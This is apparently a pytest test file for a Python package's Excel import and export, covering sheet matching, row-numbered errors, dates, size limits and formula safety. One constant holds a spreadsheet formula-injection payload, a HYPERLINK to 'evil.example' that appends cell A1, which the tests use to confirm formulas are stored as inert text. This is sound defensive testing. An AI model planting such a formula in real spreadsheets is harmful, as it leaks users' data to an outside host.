"""Excel in and out: gm.load reads an .xlsx workbook through the same rules; to_xlsx writes one."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from conftest import tiny_sheets, workbook_of

from graphmodel.data import read
from graphmodel.data.export import to_xlsx
from graphmodel.data.load import load, save
from graphmodel.data.model import Model
from graphmodel.errors import SpecError, ValidationError

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'




def problems(source) -> list:
    with pytest.raises(ValidationError) as info:
        load(source)
    return info.value.errors


# ----------------------------------------------------------------------------- reading


def test_a_workbook_of_the_tiny_dataset_loads_like_the_csv(tiny_model, tmp_path):
    path = tmp_path / "tiny.xlsx"
    path.write_bytes(workbook_of(tiny_sheets()))
    m = load(path)
    assert m.name == "tiny"
    assert m.content_hash() == tiny_model.content_hash()
    assert load(path.read_bytes()).content_hash() == tiny_model.content_hash()
    with open(path, "rb") as fh:
        assert load(fh).content_hash() == tiny_model.content_hash()
    assert load([path]).content_hash() == tiny_model.content_hash()


def test_sheet_names_match_in_any_case_and_other_sheets_are_ignored(tiny_model):
    sheets = tiny_sheets()
    data = workbook_of({"Notes": [["hello"]], "ACTORS": sheets["actors"],
                     "Collaborations": sheets["collaborations"],
                     "memberships ": sheets["memberships"]})
    assert load(data).content_hash() == tiny_model.content_hash()


def test_problems_name_the_sheet_and_the_spreadsheet_row():
    sheets = tiny_sheets()
    sheets["actors"][3][2] = "town"          # row 4 of the sheet
    sheets["memberships"][5][1] = "nowhere"  # row 6
    errors = problems({"n.xlsx": workbook_of(sheets)})
    where = {(p.file, p.line, p.column) for p in errors}
    assert ("n.xlsx[actors]", 4, "kind") in where
    assert ("n.xlsx[memberships]", 6, "collaboration") in where
    ref = next(p for p in errors if p.column == "collaboration")
    assert "not in n.xlsx[collaborations]" in ref.message


def test_a_missing_sheet_is_a_problem_of_that_sheet():
    sheets = tiny_sheets()
    del sheets["memberships"]
    errors = problems({"n.xlsx": workbook_of(sheets)})
    assert [(p.file, p.line) for p in errors] == [("n.xlsx[memberships]", None)]
    assert "no sheet named 'memberships'" in errors[0].message


def test_native_numbers_dates_and_formulas_are_read_as_text_never_evaluated():
    sheets = tiny_sheets()
    sheets["actors"] = [["id", "name", "kind", "population", "lat", "code"],
                        ["a", "=1+1", "municipality", 4787, 59.12, "0101"],
                        ["b", HOSTILE, "municipality", 12.0, 10, 101]]
    sheets["collaborations"] = [["id", "name", "kind", "start", "end"],
                                ["s1", "S", "service", dt.datetime(2007, 1, 1),
                                 dt.date(2020, 12, 31)]]
    sheets["memberships"] = [["actor", "collaboration", "share"], ["a", "s1", 0.25],
                             ["b", "s1", 0.75]]
    data = workbook_of(sheets)
    ws = openpyxl.load_workbook(io.BytesIO(data))["actors"]
    assert ws["B2"].data_type == "f"  # openpyxl stored it as a formula: the hostile case
    m = load(data)
    assert m.actors["name"].tolist() == ["=1+1", HOSTILE]
    assert m.actors["population"].tolist() == [4787, 12]
    assert m.actors["lat"].tolist() == [59.12, 10.0]
    assert m.actors["code"].tolist() == ["0101", "101"]
    assert m.collaborations.loc[0, "start"] == pd.Timestamp("2007-01-01")
    assert m.collaborations.loc[0, "end"] == pd.Timestamp("2020-12-31")
    assert m.memberships["share"].tolist() == [0.25, 0.75]


def test_a_time_of_day_in_a_date_is_refused_with_its_row():
    sheets = tiny_sheets()
    sheets["collaborations"][2][8] = dt.datetime(2015, 1, 1, 13, 30)
    errors = problems({"n.xlsx": workbook_of(sheets)})
    assert [(p.file, p.line, p.column) for p in errors] == [
        ("n.xlsx[collaborations]", 3, "start")]


def test_a_wide_row_is_refused_before_it_is_read():
    sheets = tiny_sheets()
    sheets["actors"].append(["x"] * (read.MAX_COLUMNS + 5))
    errors = problems({"n.xlsx": workbook_of(sheets)})
    assert [(p.file, p.line) for p in errors] == [("n.xlsx[actors]", 7)]
    assert "columns" in errors[0].message


def test_the_zip_limits_apply_to_a_workbook(monkeypatch):
    data = workbook_of(tiny_sheets())
    monkeypatch.setattr(read, "MAX_TOTAL_BYTES", len(data) + 100)
    errors = problems({"n.xlsx": data})
    assert errors and all(p.file == "n.xlsx" for p in errors)
    assert "too large" in errors[0].message


@pytest.mark.parametrize("data", [b"PK\x03\x04garbage", b"not a workbook at all"])
def test_a_damaged_workbook_is_a_problem(data):
    errors = problems({"n.xlsx": data})
    assert errors and errors[0].file == "n.xlsx"


def test_a_workbook_whose_parts_are_not_xml_is_a_problem():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<<<")
        zf.writestr("xl/workbook.xml", "\x00\xff")
    errors = problems(buf.getvalue())
    assert errors and "Excel workbook" in errors[0].message


# ----------------------------------------------------------------------------- writing


def test_to_xlsx_round_trip_gives_equal_records(tiny_model, tmp_path):
    out = to_xlsx(tiny_model, tmp_path / "t.xlsx")
    assert out == tmp_path / "t.xlsx"
    back = load(out)
    assert back.content_hash() == tiny_model.content_hash()
    for table in ("actors", "collaborations", "memberships"):
        pd.testing.assert_frame_equal(getattr(back, table), getattr(tiny_model, table))
    assert load(save(tiny_model, tmp_path / "s.xlsx")).content_hash() == back.content_hash()


def test_to_xlsx_writes_numbers_as_numbers_and_hostile_text_as_text(tiny_model):
    actors = tiny_model.actors.copy()
    actors.loc[0, "name"] = HOSTILE
    actors.loc[1, "name"] = "#N/A"
    actors.loc[2, "name"] = "-2+3"
    m = Model.from_frames(actors, tiny_model.collaborations, tiny_model.memberships)
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(m)))
    ws = wb["actors"]
    header = [c.value for c in ws[1]]
    name, pop, lat = (header.index(k) for k in ("name", "population", "lat"))
    row2 = ws[2]
    assert (row2[name].value, row2[name].data_type) == (HOSTILE, "s")
    assert row2[name].quotePrefix
    assert (ws[3][name].value, ws[3][name].data_type) == ("#N/A", "s")
    assert ws[4][name].data_type == "s"
    assert (row2[pop].value, row2[pop].data_type) == (1000, "n")
    assert (row2[lat].value, row2[lat].data_type) == (59.1, "n")
    assert ws[6][pop].value is None  # the county has no population
    start = wb["collaborations"]["I2"]
    assert start.is_date and start.value == dt.datetime(2010, 1, 1)
    back = load(to_xlsx(m))
    assert back.actors["name"].tolist()[:3] == [HOSTILE, "#N/A", "-2+3"]


def test_to_xlsx_accepts_frames_and_writes_to_a_file_object(tiny_model):
    buf = io.BytesIO()
    frames = {t: getattr(tiny_model, t) for t in ("actors", "collaborations", "memberships")}
    assert to_xlsx(frames, buf) is None
    assert load(buf.getvalue()).content_hash() == tiny_model.content_hash()
    with pytest.raises(TypeError, match="Model or a mapping"):
        to_xlsx([1, 2], None)


def test_to_xlsx_refuses_a_control_character_it_cannot_store(tiny_model):
    actors = tiny_model.actors.copy()
    actors.loc[0, "name"] = "bad\x01name"
    m = Model.from_frames(actors, tiny_model.collaborations, tiny_model.memberships)
    with pytest.raises(SpecError, match="U\\+0001"):
        to_xlsx(m)
